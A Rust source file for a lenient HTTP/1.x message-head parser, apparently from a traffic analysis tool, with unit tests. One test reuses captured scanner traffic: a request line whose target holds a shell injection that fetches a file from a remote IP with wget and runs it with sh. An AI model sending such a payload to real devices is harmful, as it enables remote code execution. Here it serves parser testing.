//! HTTP/1.x message heads: the start line and the header block, parsed with `httparse`, with a
//! lenient fallback for the request lines and header lines real traffic gets wrong.
//!
//! Pure functions over bytes. "Need more bytes" ([`HeadError::Incomplete`]) is never
//! "malformed": a prefix of a valid head is always `Incomplete`. A head longer than the
//! configured limit is [`HeadError::TooLarge`]; the caller keeps the first part and skips the rest.

/// Why no head could be read from the buffer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HeadError {
    /// More bytes are needed. `scanned` is how far the end-of-head search got (to resume there).
    Incomplete { scanned: usize },
    /// No end of head within `max_bytes`; `keep` bytes (whole lines) are worth parsing.
    TooLarge { keep: usize },
    /// These bytes cannot start an HTTP/1.x message.
    Malformed(&'static str),
}

/// Start line of a message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum StartLine {
    Request { method: String, target: String },
    Response { code: u16, reason: String },
}

/// What the headers say about the body and the connection.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Framing {
    /// `Content-Length`, when present and valid.
    pub content_length: Option<u64>,
    /// `Content-Length` present but unparsable, or several different values.
    pub bad_content_length: bool,
    /// A `Transfer-Encoding` header is present.
    pub transfer_encoding: bool,
    /// Its last coding is `chunked`.
    pub chunked: bool,
    /// An `Upgrade` header is present (a protocol switch may follow).
    pub upgrade: bool,
}

/// A parsed head.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Head {
    pub start: StartLine,
    /// Minor version of `HTTP/1.x`; `None` when a (lenient) request line had no valid version.
    pub minor: Option<u8>,
    /// Headers as on the wire (name, value), at most `max_headers` of them.
    pub headers: Vec<(String, String)>,
    /// Framing, from every header line (also those beyond the display limit).
    pub framing: Framing,
    /// Bytes used, blank lines before the start line included.
    pub len: usize,
    /// Anomalies worth a note on the event.
    pub anomalies: Vec<&'static str>,
    /// The header count limit was hit.
    pub too_many_headers: bool,
    /// The header block was larger than `max_bytes`: only its first lines were parsed.
    pub truncated: bool,
}

/// Limits on one head.
#[derive(Debug, Clone, Copy)]
pub struct HeadLimits {
    pub max_headers: usize,
    pub max_bytes: usize,
}

/// Verdict of a start-line check on the first bytes of a line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Plausible {
    Yes,
    Maybe,
    No,
}

/// RFC 9110 `tchar`.
pub fn is_tchar(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b)
}

/// Longest method token accepted (WebDAV and custom methods are far shorter).
const MAX_METHOD: usize = 32;

fn is_target_byte(b: u8) -> bool {
    (0x21..=0x7e).contains(&b) || b >= 0x80
}

/// Checks `b` against `prefix` as far as `b` goes.
fn prefix_match(b: &[u8], prefix: &[u8]) -> Plausible {
    let n = b.len().min(prefix.len());
    match (b.get(..n) == prefix.get(..n), b.len() >= prefix.len()) {
        (false, _) => Plausible::No,
        (true, true) => Plausible::Yes,
        (true, false) => Plausible::Maybe,
    }
}

/// Strict check of a status line start: `HTTP/1.d SP ddd`.
fn strict_status_line(b: &[u8]) -> Plausible {
    let pattern: [fn(u8) -> bool; 12] = [
        |c| c == b'H',
        |c| c == b'T',
        |c| c == b'T',
        |c| c == b'P',
        |c| c == b'/',
        |c| c == b'1',
        |c| c == b'.',
        |c| c.is_ascii_digit(),
        |c| c == b' ',
        |c| c.is_ascii_digit(),
        |c| c.is_ascii_digit(),
        |c| c.is_ascii_digit(),
    ];
    for (i, ok) in pattern.iter().enumerate() {
        match b.get(i) {
            None => return Plausible::Maybe,
            Some(&c) if !ok(c) => return Plausible::No,
            _ => {}
        }
    }
    Plausible::Yes
}

/// Strict check of a request line: `token SP target SP HTTP/1.d (CR|LF)`.
fn strict_request_line(b: &[u8]) -> Plausible {
    let m = b.iter().take_while(|&&c| is_tchar(c)).count();
    if m > MAX_METHOD {
        return Plausible::No;
    }
    match b.get(m) {
        None => return Plausible::Maybe,
        Some(b' ') if m > 0 => {}
        _ => return Plausible::No,
    }
    let rest = b.get(m + 1..).unwrap_or_default();
    let t = rest.iter().take_while(|&&c| is_target_byte(c)).count();
    match rest.get(t) {
        None => return Plausible::Maybe,
        Some(b' ') if t > 0 => {}
        _ => return Plausible::No,
    }
    let v = rest.get(t + 1..).unwrap_or_default();
    match prefix_match(v, b"HTTP/1.") {
        Plausible::Yes => {}
        other => return other,
    }
    match v.get(7) {
        None => return Plausible::Maybe,
        Some(d) if !d.is_ascii_digit() => return Plausible::No,
        _ => {}
    }
    match v.get(8) {
        None => Plausible::Maybe,
        Some(b'\r' | b'\n') => Plausible::Yes,
        _ => Plausible::No,
    }
}

/// Strict start-line check for resynchronisation and content probing: a full request line
/// (`GET /x HTTP/1.1`) or a status line (`HTTP/1.1 200`).
pub fn strict_start(b: &[u8]) -> Plausible {
    match strict_status_line(b) {
        Plausible::No => strict_request_line(b),
        v => v,
    }
}

/// Lenient check used before a head is complete: `HTTP/` or `token SP`. Anything stricter is
/// left to the full parse so that odd request lines still become events.
pub fn lenient_start(b: &[u8]) -> Plausible {
    if prefix_match(b, b"HTTP/") != Plausible::No {
        return Plausible::Yes;
    }
    let m = b.iter().take_while(|&&c| is_tchar(c)).count();
    if m > MAX_METHOD {
        return Plausible::No;
    }
    match b.get(m) {
        None => Plausible::Maybe,
        Some(b' ') if m > 0 => Plausible::Yes,
        // A known method alone on its line (`OPTIONS`), as scanners send.
        Some(b'\r' | b'\n') if is_known_method(b.get(..m).unwrap_or_default()) => Plausible::Yes,
        _ => Plausible::No,
    }
}

/// Methods of RFC 9110 and WebDAV: recognised even where the rest of a request line is missing.
pub const KNOWN_METHODS: &[&[u8]] = &[
    b"GET",
    b"POST",
    b"HEAD",
    b"PUT",
    b"DELETE",
    b"OPTIONS",
    b"PATCH",
    b"TRACE",
    b"CONNECT",
    b"PROPFIND",
    b"PROPPATCH",
    b"MKCOL",
    b"COPY",
    b"MOVE",
    b"LOCK",
    b"UNLOCK",
    b"REPORT",
    b"SEARCH",
];

pub fn is_known_method(m: &[u8]) -> bool {
    KNOWN_METHODS.contains(&m)
}

/// End of the head (index after its blank line) searching from `from`: `\n\n` or `\n\r\n`.
pub fn find_head_end(b: &[u8], from: usize) -> Option<usize> {
    let mut i = from;
    while let Some(off) = b.get(i..).and_then(|s| s.iter().position(|&c| c == b'\n')) {
        let nl = i + off;
        match (b.get(nl + 1), b.get(nl + 2)) {
            (Some(b'\n'), _) => return Some(nl + 2),
            (Some(b'\r'), Some(b'\n')) => return Some(nl + 3),
            _ => i = nl + 1,
        }
    }
    None
}

/// Leading CR/LF bytes (stray line ends between messages), skipped like httparse does.
pub fn leading_blank(b: &[u8]) -> usize {
    b.iter().take_while(|&&c| c == b'\r' || c == b'\n').count()
}

/// Reads one head from the start of `buf`. `scanned` resumes an earlier end-of-head search.
pub fn parse_head(buf: &[u8], scanned: usize, limits: HeadLimits) -> Result<Head, HeadError> {
    let skip = leading_blank(buf);
    let b = buf.get(skip..).unwrap_or_default();
    if b.is_empty() {
        return Err(HeadError::Incomplete { scanned: 0 });
    }
    let from = scanned.saturating_sub(skip).saturating_sub(2);
    let Some(end) = find_head_end(b, from) else {
        if lenient_start(b) == Plausible::No {
            return Err(HeadError::Malformed("not an HTTP/1.x start line"));
        }
        if b.len() > limits.max_bytes {
            // Whole lines within the limit.
            let window = b.get(..limits.max_bytes).unwrap_or(b);
            let keep = window.iter().rposition(|&c| c == b'\n').map_or(0, |i| i + 1);
            return Err(HeadError::TooLarge { keep: skip + keep });
        }
        return Err(HeadError::Incomplete { scanned: skip + b.len() });
    };
    if end > limits.max_bytes {
        let window = b.get(..limits.max_bytes).unwrap_or(b);
        let keep = window.iter().rposition(|&c| c == b'\n').map_or(0, |i| i + 1);
        let mut head = parse_truncated(b.get(..keep).unwrap_or_default(), limits.max_headers)?;
        head.len = skip + end;
        return Ok(head);
    }
    let block = b.get(..end).unwrap_or(b);
    let mut head = parse_block(block, limits.max_headers)?;
    head.len = skip + end;
    Ok(head)
}

/// Parses a head cut at the size limit: `kept` holds whole lines; the rest was skipped.
pub fn parse_truncated(kept: &[u8], max_headers: usize) -> Result<Head, HeadError> {
    let skip = leading_blank(kept);
    let mut block = kept.get(skip..).unwrap_or_default().to_vec();
    if !block.contains(&b'\n') {
        return Err(HeadError::Malformed("start line longer than the header size limit"));
    }
    block.extend_from_slice(b"\r\n");
    let mut head = parse_block(&block, max_headers)?;
    head.len = kept.len();
    head.truncated = true;
    Ok(head)
}

fn lossy(v: &[u8]) -> String {
    String::from_utf8_lossy(v).trim().to_owned()
}

/// A complete head block (start line through the blank line).
fn parse_block(block: &[u8], max_headers: usize) -> Result<Head, HeadError> {
    let mut cfg = httparse::ParserConfig::default();
    cfg.allow_obsolete_multiline_headers_in_responses(true)
        .allow_spaces_after_header_name_in_responses(true)
        .ignore_invalid_headers_in_requests(true)
        .ignore_invalid_headers_in_responses(true);
    let mut storage = vec![httparse::EMPTY_HEADER; max_headers.max(1)];
    let strict = if block.starts_with(b"HTTP/") {
        let mut r = httparse::Response::new(&mut storage);
        match cfg.parse_response(&mut r, block) {
            Ok(httparse::Status::Complete(_)) => Some((
                StartLine::Response {
                    code: r.code.unwrap_or(0),
                    reason: r.reason.unwrap_or("").to_owned(),
                },
                r.version,
                collect(r.headers),
            )),
            _ => None,
        }
    } else {
        let mut r = httparse::Request::new(&mut storage);
        match cfg.parse_request(&mut r, block) {
            Ok(httparse::Status::Complete(_)) => Some((
                StartLine::Request {
                    method: r.method.unwrap_or("").to_owned(),
                    target: r.path.unwrap_or("").to_owned(),
                },
                r.version,
                collect(r.headers),
            )),
            _ => None,
        }
    };
    let mut lines = block.split(|&c| c == b'\n').map(|l| l.strip_suffix(b"\r").unwrap_or(l));
    let first = lines.next().unwrap_or_default();
    let raw = header_lines(lines);
    if let Some((start, minor, headers)) = strict {
        let mut anomalies = Vec::new();
        if headers.len() < raw.fields.len() || raw.invalid > 0 {
            anomalies.push("invalid header lines ignored");
        }
        let framing = framing(headers.iter().map(|(n, v)| (n.as_str(), v.as_str())));
        if framing.bad_content_length {
            anomalies.push("invalid or conflicting Content-Length");
        }
        return Ok(Head {
            start,
            minor,
            headers,
            framing,
            len: block.len(),
            anomalies,
            too_many_headers: false,
            truncated: false,
        });
    }
    // httparse refused the block: too many headers, or a start line it finds invalid.
    let (start, minor, mut anomalies) = match strict_start_line(&cfg, first) {
        Some((start, minor)) => (start, minor, Vec::new()),
        None => lenient_start_line(first)?,
    };
    if raw.invalid > 0 {
        anomalies.push("invalid header lines ignored");
    }
    let too_many = raw.fields.len() > max_headers;
    let framing = framing(raw.fields.iter().map(|(n, v)| (n.as_str(), v.as_str())));
    if framing.bad_content_length {
        anomalies.push("invalid or conflicting Content-Length");
    }
    let mut headers = raw.fields;
    headers.truncate(max_headers);
    Ok(Head {
        start,
        minor,
        headers,
        framing,
        len: block.len(),
        anomalies,
        too_many_headers: too_many,
        truncated: false,
    })
}

/// The start line alone through httparse (used when the header block is what it refused).
fn strict_start_line(cfg: &httparse::ParserConfig, line: &[u8]) -> Option<(StartLine, Option<u8>)> {
    let mut b = line.to_vec();
    b.extend_from_slice(b"\r\n\r\n");
    let mut none: [httparse::Header<'_>; 0] = [];
    if b.starts_with(b"HTTP/") {
        let mut r = httparse::Response::new(&mut none);
        match cfg.parse_response(&mut r, &b) {
            Ok(httparse::Status::Complete(_)) => Some((
                StartLine::Response {
                    code: r.code.unwrap_or(0),
                    reason: r.reason.unwrap_or("").to_owned(),
                },
                r.version,
            )),
            _ => None,
        }
    } else {
        let mut r = httparse::Request::new(&mut none);
        match cfg.parse_request(&mut r, &b) {
            Ok(httparse::Status::Complete(_)) => Some((
                StartLine::Request {
                    method: r.method.unwrap_or("").to_owned(),
                    target: r.path.unwrap_or("").to_owned(),
                },
                r.version,
            )),
            _ => None,
        }
    }
}

fn collect(h: &[httparse::Header<'_>]) -> Vec<(String, String)> {
    h.iter().map(|h| (h.name.to_owned(), lossy(h.value))).collect()
}

struct RawHeaders {
    fields: Vec<(String, String)>,
    invalid: usize,
}

/// Lenient header lines: `name: value`, obsolete folding joined, invalid lines counted.
fn header_lines<'a>(lines: impl Iterator<Item = &'a [u8]>) -> RawHeaders {
    let mut out = RawHeaders { fields: Vec::new(), invalid: 0 };
    for line in lines {
        if line.is_empty() {
            break;
        }
        if line.first().is_some_and(|&c| c == b' ' || c == b'\t') {
            match out.fields.last_mut() {
                Some((_, v)) => {
                    let more = lossy(line);
                    if !more.is_empty() {
                        v.push(' ');
                        v.push_str(&more);
                    }
                }
                None => out.invalid += 1,
            }
            continue;
        }
        let Some(colon) = line.iter().position(|&c| c == b':') else {
            out.invalid += 1;
            continue;
        };
        let name = line.get(..colon).unwrap_or_default();
        let name = name.strip_suffix(b" ").unwrap_or(name);
        if name.is_empty() || !name.iter().all(|&c| is_tchar(c)) {
            out.invalid += 1;
            continue;
        }
        out.fields.push((lossy(name), lossy(line.get(colon + 1..).unwrap_or_default())));
    }
    out
}

type Start = (StartLine, Option<u8>, Vec<&'static str>);

/// A start line httparse refused. Requests follow tshark's reading (method up to the first
/// space, target up to the next, then an optional version), so scanners' broken request lines
/// such as `GET /HTTP/1.1` or `OPTIONS  HTTP/1.1` still become events, flagged.
fn lenient_start_line(line: &[u8]) -> Result<Start, HeadError> {
    if line.iter().any(|&c| c < 0x20 && c != b'\t') {
        return Err(HeadError::Malformed("control character in start line"));
    }
    if let Some(rest) = line.strip_prefix(b"HTTP/1.") {
        // Status lines: `HTTP/1.d SP ddd [SP reason]`, several spaces tolerated.
        let minor = rest.first().filter(|c| c.is_ascii_digit()).map(|c| c - b'0');
        let after = rest.get(1..).unwrap_or_default();
        let sp = after.iter().take_while(|&&c| c == b' ').count();
        let code = after.get(sp..sp + 3).unwrap_or_default();
        let tail = after.get(sp + 3..).unwrap_or_default();
        if minor.is_none()
            || sp == 0
            || code.len() != 3
            || !code.iter().all(u8::is_ascii_digit)
            || tail.first().is_some_and(|&c| c != b' ')
        {
            return Err(HeadError::Malformed("invalid status line"));
        }
        let code = code.iter().fold(0u16, |a, &c| a * 10 + u16::from(c - b'0'));
        let reason = lossy(tail);
        return Ok((StartLine::Response { code, reason }, minor, vec!["invalid status line"]));
    }
    let m = line.iter().take_while(|&&c| is_tchar(c)).count();
    if m == line.len() && is_known_method(line) {
        let method = String::from_utf8_lossy(line).into_owned();
        let target = String::new();
        return Ok((StartLine::Request { method, target }, None, vec!["invalid request line"]));
    }
    if m == 0 || m > MAX_METHOD || line.get(m) != Some(&b' ') {
        return Err(HeadError::Malformed("invalid request line"));
    }
    let method = String::from_utf8_lossy(line.get(..m).unwrap_or_default()).into_owned();
    let rest = line.get(m + 1..).unwrap_or_default();
    let t = rest.iter().position(|&c| c == b' ').unwrap_or(rest.len());
    let target = String::from_utf8_lossy(rest.get(..t).unwrap_or_default()).into_owned();
    let version = rest.get(t + 1..).unwrap_or_default();
    let minor = match version {
        [b'H', b'T', b'T', b'P', b'/', b'1', b'.', d] if d.is_ascii_digit() => Some(d - b'0'),
        // Another protocol version (`PRI * HTTP/2.0`, RTSP, SIP): not HTTP/1.x.
        _ if version.starts_with(b"HTTP/1.") => None,
        _ if is_other_version(version) => {
            return Err(HeadError::Malformed("not an HTTP/1.x version"))
        }
        _ => None,
    };
    Ok((StartLine::Request { method, target }, minor, vec!["invalid request line"]))
}

/// `NAME/d[.d]` other than HTTP/1.x, e.g. `HTTP/2.0`, `RTSP/1.0`, `SIP/2.0`.
fn is_other_version(v: &[u8]) -> bool {
    let Some(slash) = v.iter().position(|&c| c == b'/') else { return false };
    let (name, num) = (v.get(..slash).unwrap_or_default(), v.get(slash + 1..).unwrap_or_default());
    !name.is_empty()
        && name.iter().all(u8::is_ascii_uppercase)
        && num.first().is_some_and(u8::is_ascii_digit)
        && num.iter().all(|&c| c.is_ascii_digit() || c == b'.')
}

/// Framing from the header list (names case-insensitive).
pub fn framing<'a>(headers: impl Iterator<Item = (&'a str, &'a str)>) -> Framing {
    let mut f = Framing::default();
    for (name, value) in headers {
        if name.eq_ignore_ascii_case("content-length") {
            for part in value.split(',') {
                let part = part.trim();
                match (part.parse::<u64>(), f.content_length) {
                    _ if part.is_empty() || !part.bytes().all(|c| c.is_ascii_digit()) => {
                        f.bad_content_length = true
                    }
                    (Ok(n), None) => f.content_length = Some(n),
                    (Ok(n), Some(m)) if n == m => {}
                    _ => f.bad_content_length = true,
                }
            }
        } else if name.eq_ignore_ascii_case("transfer-encoding") {
            f.transfer_encoding = true;
            f.chunked = value
                .rsplit(',')
                .map(str::trim)
                .find(|c| !c.is_empty())
                .is_some_and(|c| c.eq_ignore_ascii_case("chunked"));
        } else if name.eq_ignore_ascii_case("upgrade") {
            f.upgrade = true;
        }
    }
    f
}

#[cfg(test)]
mod tests {
    use super::*;

    const LIMITS: HeadLimits = HeadLimits { max_headers: 100, max_bytes: 65536 };

    #[test]
    fn strict_checks() {
        assert_eq!(strict_start(b"GET / HTTP/1.1\r\n"), Plausible::Yes);
        assert_eq!(strict_start(b"PROPFIND /a HTTP/1.0\n"), Plausible::Yes);
        assert_eq!(strict_start(b"GET / HTTP/1."), Plausible::Maybe);
        assert_eq!(strict_start(b"GET /abc"), Plausible::Maybe);
        assert_eq!(strict_start(b"GE"), Plausible::Maybe);
        assert_eq!(strict_start(b"HTTP/1.1 200 OK"), Plausible::Yes);
        assert_eq!(strict_start(b"HTTP/1.1 2"), Plausible::Maybe);
        assert_eq!(strict_start(b"HTTP/2.0 200"), Plausible::No);
        assert_eq!(strict_start(b"GET / HTTP/2.0\r\n"), Plausible::No);
        assert_eq!(strict_start(b"PRI * HTTP/2.0\r\n"), Plausible::No);
        assert_eq!(strict_start(b"\x16\x03\x01"), Plausible::No);
        assert_eq!(strict_start(b" GET / HTTP/1.1\r\n"), Plausible::No);
        assert_eq!(strict_start(b"GET / HTTP/1.1x"), Plausible::No);
    }

    #[test]
    fn every_prefix_is_incomplete() {
        let msg = b"\r\nGET /a?b=1 HTTP/1.1\r\nHost: x\r\nFolded: a\r\n  b\r\n\r\n";
        for n in 0..msg.len() {
            assert!(
                matches!(parse_head(&msg[..n], 0, LIMITS), Err(HeadError::Incomplete { .. })),
                "prefix {n}"
            );
        }
        let h = parse_head(msg, 0, LIMITS).unwrap();
        assert_eq!(h.len, msg.len());
        assert_eq!(h.start, StartLine::Request { method: "GET".into(), target: "/a?b=1".into() });
    }

    #[test]
    fn resumed_scan_finds_the_end() {
        let msg = b"HTTP/1.1 200 OK\r\nA: b\r\n\r\n";
        let Err(HeadError::Incomplete { scanned }) = parse_head(&msg[..20], 0, LIMITS) else {
            panic!()
        };
        assert_eq!(parse_head(msg, scanned, LIMITS).unwrap().len, msg.len());
        let Err(HeadError::Incomplete { scanned }) = parse_head(&msg[..24], 0, LIMITS) else {
            panic!()
        };
        assert_eq!(parse_head(msg, scanned, LIMITS).unwrap().len, msg.len());
    }

    #[test]
    fn broken_request_lines_follow_tshark() {
        // zeek-http-methods.pcap: scanners' request lines.
        let h = parse_head(b"OPTIONS HTTP/1.1\r\nHost: www.google.com\r\n\r\n", 0, LIMITS).unwrap();
        assert_eq!(
            h.start,
            StartLine::Request { method: "OPTIONS".into(), target: "HTTP/1.1".into() }
        );
        assert_eq!(h.minor, None);
        assert_eq!(h.anomalies, vec!["invalid request line"]);
        let h = parse_head(b"OPTIONS  HTTP/1.1\r\nHost: a\r\n\r\n", 0, LIMITS).unwrap();
        assert_eq!(h.start, StartLine::Request { method: "OPTIONS".into(), target: "".into() });
        assert_eq!(h.minor, Some(1));
        let h = parse_head(b"OPTIONS\nHost: www.google.com\n\n", 0, LIMITS).unwrap();
        assert_eq!(h.start, StartLine::Request { method: "OPTIONS".into(), target: "".into() });
        assert!(matches!(
            parse_head(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 0, LIMITS),
            Err(HeadError::Malformed(_))
        ));
        // sv-bug-5437-02.pcap: a shell command with spaces in the target.
        let h = parse_head(
            b"GET /shell?cd+/tmp;wget+ http://1.2.3.4/x;sh+/tmp/x HTTP/1.1\r\n\r\n",
            0,
            LIMITS,
        )
        .unwrap();
        assert_eq!(h.minor, None);
        assert!(matches!(
            parse_head(b"DESCRIBE rtsp://a/b RTSP/1.0\r\n\r\n", 0, LIMITS),
            Err(HeadError::Malformed(_))
        ));
        assert!(matches!(parse_head(b"QUIT\r\n\r\n", 0, LIMITS), Err(HeadError::Malformed(_))));
        assert!(matches!(
            parse_head(b"OPTIONSHTTP/1.1\r\nHost: a\r\n\r\n", 0, LIMITS),
            Err(HeadError::Malformed(_))
        ));
        assert!(matches!(
            parse_head(b"\x16\x03\x01\x02\x00", 0, LIMITS),
            Err(HeadError::Malformed(_))
        ));
        assert!(matches!(
            parse_head(b"HTTP/1.1 20x OK\r\n\r\n", 0, LIMITS),
            Err(HeadError::Malformed(_))
        ));
    }

    #[test]
    fn too_many_headers_keeps_framing() {
        let mut m = b"POST / HTTP/1.1\r\n".to_vec();
        for i in 0..5 {
            m.extend_from_slice(format!("X-{i}: {i}\r\n").as_bytes());
        }
        m.extend_from_slice(b"Content-Length: 7\r\n\r\n");
        let h = parse_head(&m, 0, HeadLimits { max_headers: 3, max_bytes: 65536 }).unwrap();
        assert!(h.too_many_headers);
        assert_eq!(h.headers.len(), 3);
        assert_eq!(h.framing.content_length, Some(7));
        assert_eq!(h.len, m.len());
    }

    #[test]
    fn too_large_then_truncated() {
        let mut m = b"GET / HTTP/1.1\r\nHost: a\r\n".to_vec();
        m.extend_from_slice(&[b'x'; 100]);
        let lim = HeadLimits { max_headers: 100, max_bytes: 64 };
        let Err(HeadError::TooLarge { keep }) = parse_head(&m, 0, lim) else { panic!() };
        assert_eq!(keep, 25);
        let h = parse_truncated(&m[..keep], 100).unwrap();
        assert_eq!(h.headers, vec![("Host".into(), "a".into())]);
        assert!(h.truncated);
        // Complete but too large: parsed from its first lines, all of it used.
        m.extend_from_slice(b"\r\n\r\n");
        let h = parse_head(&m, 0, lim).unwrap();
        assert!(h.truncated);
        assert_eq!((h.len, h.headers.len()), (m.len(), 1));
        assert!(matches!(parse_truncated(b"GET /aaaa", 100), Err(HeadError::Malformed(_))));
    }

    #[test]
    fn framing_rules() {
        let f =
            framing([("Transfer-Encoding", "gzip, chunked"), ("content-length", "5")].into_iter());
        assert!(f.chunked && f.transfer_encoding);
        assert_eq!(f.content_length, Some(5));
        let f = framing([("Content-Length", "5, 5")].into_iter());
        assert_eq!((f.content_length, f.bad_content_length), (Some(5), false));
        let f = framing([("Content-Length", "5"), ("Content-Length", "6")].into_iter());
        assert!(f.bad_content_length);
        let f = framing([("Content-Length", "-1")].into_iter());
        assert!(f.bad_content_length && f.content_length.is_none());
        let f = framing([("Transfer-Encoding", "chunked, gzip")].into_iter());
        assert!(!f.chunked);
    }

    #[test]
    fn invalid_header_lines_are_flagged_not_fatal() {
        let h = parse_head(b"HTTP/1.1 200 OK\r\nGood: 1\r\nBad Header\r\n\r\n", 0, LIMITS).unwrap();
        assert_eq!(h.headers, vec![("Good".into(), "1".into())]);
        assert_eq!(h.anomalies, vec!["invalid header lines ignored"]);
    }
}
